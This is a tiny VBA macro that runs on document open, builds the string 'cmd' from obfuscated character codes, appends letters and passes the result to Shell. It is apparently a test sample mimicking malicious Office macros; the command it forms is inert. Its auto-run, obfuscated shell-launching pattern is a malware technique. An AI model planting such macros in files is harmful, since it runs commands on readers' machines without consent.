Sub AutoOpen()
k = Array(99, 109, 100)
For i = LBound(k) To UBound(k)
s = s & Chr(k(i) Xor 0)
Next i
For Each x In Split("a,b", ",")
s = s & x
Next
Shell s
End Sub
